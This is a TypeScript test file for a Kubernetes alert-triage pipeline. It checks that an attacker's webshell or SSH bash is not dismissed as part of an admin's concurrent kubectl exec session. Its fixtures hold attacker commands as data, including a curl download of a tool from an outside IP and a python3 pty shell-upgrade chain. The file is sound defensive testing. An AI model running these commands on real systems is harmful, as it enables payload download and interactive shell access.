/**
 * Red-team traps for admin-activity's session links ("the process descends from the session's command"): during
 * alice's `kubectl exec -it … -- bash`, an attacker's webshell in the same container starts its own `bash`
 * (java → sh -c → bash → curl), and an SSH login on the node runs `bash` too. Either bash matched the session's command
 * by text. The runtime starts an exec'd command: the matched process's reported parent must be the runtime; a login on
 * the node is never placed into the session's container. Also kept: just after the session closed, a denied exec,
 * an exec into another container of the pod.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { ExecSession } from '../../../src/cluster/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const N = 'ip-10-0-1-10.ec2.internal';
const api = pod('api-5f-abcde', {
  namespace: 'shop',
  node: N,
  ip: '10.1.0.7',
  owner: { kind: 'ReplicaSet', name: 'api-5f' },
  containers: [
    { name: 'api', image: 'shop/api:1.2', command: ['java', '-jar', '/app/api.jar'] },
    { name: 'sidecar', image: 'envoyproxy/envoy:v1.29' },
  ],
});
const objects = [node(N, '10.0.1.10'), owner('ReplicaSet', 'api-5f', 'shop', { kind: 'Deployment', name: 'api' }), owner('Deployment', 'api', 'shop'), api];
const session = (o: Partial<ExecSession> = {}): ExecSession => ({
  kind: 'exec',
  user: 'alice@example.com',
  groups: ['system:authenticated'],
  sourceIps: ['203.0.113.5'],
  namespace: 'shop',
  pod: 'api-5f-abcde',
  container: 'api',
  command: ['bash'],
  tty: true,
  start: '2026-01-01T12:00:00Z',
  end: '2026-01-01T12:30:00Z',
  code: 101,
  ...o,
});
const download = { name: 'curl', path: '/usr/bin/curl', commandLine: 'curl -s -o /var/lib/app/kit http://198.51.100.7/kit' };
const inApi = { id: containerIdOf(api) };

function triage(sessions: ExecSession[], o: Parameters<typeof alert>[0]) {
  return triageAlert(alert({ host: N, title: 'Download tool executed', time: '2026-01-01T12:10:00Z', ...o }), { index: indexOf(objects, sessions) });
}

describe('redteam2 admin-activity: a bash that is not the session’s', () => {
  it('trap: the webshell’s own bash (java → sh -c → bash) during alice’s exec bash stays genuine', () => {
    const r = triage([session()], { container: inApi, process: download, ancestors: [{ name: 'bash', commandLine: 'bash' }, { name: 'sh', commandLine: 'sh -c bash' }, { name: 'java', commandLine: 'java -jar /app/api.jar' }] });
    expect(r.verdict.label).toBe('genuine');
  });
  it('trap: an SSH login’s bash on the node during alice’s session stays genuine and is not placed in her pod', () => {
    const r = triage([session()], { process: download, ancestors: [{ name: 'bash', commandLine: 'bash' }, { name: 'sshd', commandLine: 'sshd: root@pts/0' }] });
    expect(r.verdict.label).toBe('genuine');
    expect(r.correlation.subject.pod).toBeUndefined();
  });
  it('trap: a terminal process three minutes after the session closed stays genuine', () => {
    expect(triage([session()], { time: '2026-01-01T12:33:00Z', container: inApi, process: { ...download, tty: true }, ancestors: [{ name: 'bash', commandLine: 'bash' }] }).verdict.label).toBe('genuine');
  });
  it('trap: a denied exec (403) explains nothing', () => {
    expect(triage([session({ code: 403 })], { container: inApi, process: { ...download, tty: true }, ancestors: [{ name: 'bash', commandLine: 'bash' }] }).verdict.label).toBe('genuine');
  });
  it('trap: an exec into the sidecar explains nothing in the api container', () => {
    expect(triage([session({ container: 'sidecar' })], { container: inApi, process: { ...download, tty: true }, ancestors: [{ name: 'bash', commandLine: 'bash' }] }).verdict.label).toBe('genuine');
  });
  it('still explained: alice’s bash, started by the runtime', () => {
    expect(triage([session()], { container: inApi, process: { ...download, tty: true }, ancestors: [{ name: 'bash', commandLine: 'bash' }, { name: 'containerd-shim-runc-v2' }] }).verdict.label).toBe('likely-false-positive');
  });
});

describe('redteam2 admin-activity: a terminal that is not the session’s', () => {
  it('trap: a webshell’s pty (java → sh -c → python3 pty → sh) during alice’s interactive exec stays genuine', () => {
    const r = triage([session()], {
      container: inApi,
      process: { ...download, tty: true },
      ancestors: [
        { name: 'sh', commandLine: '/bin/sh -i' },
        { name: 'python3', commandLine: 'python3 -c import pty;pty.spawn("/bin/sh")' },
        { name: 'sh', commandLine: 'sh -c python3 -c import pty' },
        { name: 'java', commandLine: 'java -jar /app/api.jar' },
      ],
    });
    expect(r.verdict.label).toBe('genuine');
  });
});
